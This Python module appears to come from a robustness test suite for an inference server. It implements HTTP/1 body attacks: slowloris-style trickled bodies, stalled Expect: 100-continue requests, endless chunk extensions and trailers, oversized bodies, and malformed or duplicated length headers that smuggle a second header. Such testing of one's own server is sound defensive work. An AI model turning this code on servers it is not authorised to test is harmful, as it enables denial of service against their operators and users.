"""Bodies that are slow, large, or not what their head said."""

import asyncio

from attacks import http1
from attacks.registry import attack, room

INFER = "/v2/models/langid/infer"


async def trickle(target, start, path, length, many=50):
    """So many clients that send `start` bytes of `length`, then one every five seconds."""
    blank = b" " * 2**20

    async def client(index):
        loop, connection = asyncio.get_running_loop(), await target.socket()
        at = path if isinstance(path, str) else path[index % len(path)]
        try:
            await loop.sock_sendall(connection, http1.head(at, length))
            for _ in range(start >> 20):
                await loop.sock_sendall(connection, blank)
            target.count("bodies begun")
            while target.left():
                await asyncio.sleep(min(5, target.left()))
                await loop.sock_sendall(connection, b" ")
        finally:
            connection.close()

    await target.together(many, client)


@attack(clients=50, seconds=15, short_seconds=4)
async def slow_bodies(target):
    """Fifty bodies of 32 MiB, then a byte every five seconds."""
    await trickle(target, 2**25, INFER, 2**26)


@attack(clients=50, seconds=15, short_seconds=3)
async def slow_bodies_elsewhere(target):
    """The same at unknown paths, unknown models, health and metadata."""
    paths = ["/v2/nothing", "/v2/models/none/infer", "/v2/health/live", "/v2", "/v2/models/langid",
             "/v2/models/g2p/generate_stream"]
    await trickle(target, 2**25, paths, 2**26)


@attack(clients=50, seconds=15, in_short=False)
async def slow_bodies_at_metrics(target):
    """The same at the port of metrics."""
    target.port = target.metrics_port
    await trickle(target, 2**25, "/metrics", 2**26)


@attack(clients=200, short_seconds=3)
async def promised_bodies(target):
    """Two thousand heads that promise 64 MiB each, and of which nothing comes."""
    await trickle(target, 0, INFER, 2**26, room(2000))


@attack(clients=200)
async def expect_and_silence(target):
    """A thousand clients that wait for 100 Continue, and then send nothing."""
    async def client(_):
        reader, writer = await target.open()
        writer.write(http1.head(INFER, 2**26, headers=[("Expect", "100-continue")]))
        target.count((await reader.readline()).decode().split()[1])
        await target.wait()
        writer.close()

    await target.together(room(1000), client)


@attack(clients=8)
async def chunks_of_one_byte(target):
    """Bodies whose chunks hold one byte each."""
    chunks = b"1\r\n \r\n" * 20_000

    async def client(_):
        reader, writer = await target.open()
        start = http1.head(INFER, headers=[("Transfer-Encoding", "chunked")])
        writer.write(start)
        while target.left():
            writer.write(chunks)
            await writer.drain()
            target.count("bytes in chunks", 20_000)
        writer.close()

    await target.together(8, client)


@attack(clients=8, in_short=False)
async def extensions_of_chunks(target):
    """Chunks with extensions that never end."""
    async def client(_):
        reader, writer = await target.open()
        writer.write(http1.head(INFER, headers=[("Transfer-Encoding", "chunked")]) + b"1;")
        while target.left():
            writer.write(b"a" * 2**18)
            await writer.drain()
        writer.close()

    await target.together(8, client)


@attack(clients=8, in_short=False)
async def trailers(target):
    """Trailers that never end."""
    async def client(_):
        reader, writer = await target.open()
        start = http1.head(INFER, headers=[("Transfer-Encoding", "chunked"), ("Trailer", "a")])
        writer.write(start + b"1\r\n \r\n0\r\n")
        while target.left():
            writer.write(b"a: aaaaaaaaaaaaaaaaaaaaaaaaaa\r\n" * 2000)
            await writer.drain()
        writer.close()

    await target.together(8, client)


@attack(clients=16, in_short=False)
async def wrong_lengths(target):
    """Lengths that are too short, too long, negative, not numbers, or said twice."""
    body = b'{"inputs":[]}'
    lengths = ["5", str(2**40), str(2**64), "-1", "ten"]
    lengths += ["13\r\nContent-Length: 14", "13\r\nTransfer-Encoding: chunked"]

    async def client(index):
        while target.left():
            reader, writer = await target.open()
            try:
                writer.write(http1.head(INFER, lengths[index % len(lengths)]) + body)
                await writer.drain()
                async with asyncio.timeout(0.5):
                    target.count((await reader.readline()).decode()[9:12] or "end")
            except (OSError, TimeoutError) as error:
                target.count(type(error).__name__)
            finally:
                writer.close()

    await target.together(16, client)


@attack(clients=8)
async def bodies_past_the_bound(target):
    """Bodies that go on past the 64 MiB that are allowed, with a stated length and without one."""
    blank, chunk = b" " * 2**20, b"100000\r\n" + b" " * 2**20 + b"\r\n"

    async def client(index):
        while target.left():
            reader, writer = await target.open()
            how, part = ("Transfer-Encoding", "chunked"), chunk
            if index % 2:
                how, part = ("Content-Length", 2**31), blank
            try:
                writer.write(http1.head(INFER, headers=[how]))
                for _ in range(300):
                    writer.write(part)
                    await writer.drain()
                    if not target.left():
                        break
                target.count("sent on")
            except OSError as error:
                target.count(type(error).__name__)
            finally:
                writer.close()

    await target.together(8, client)
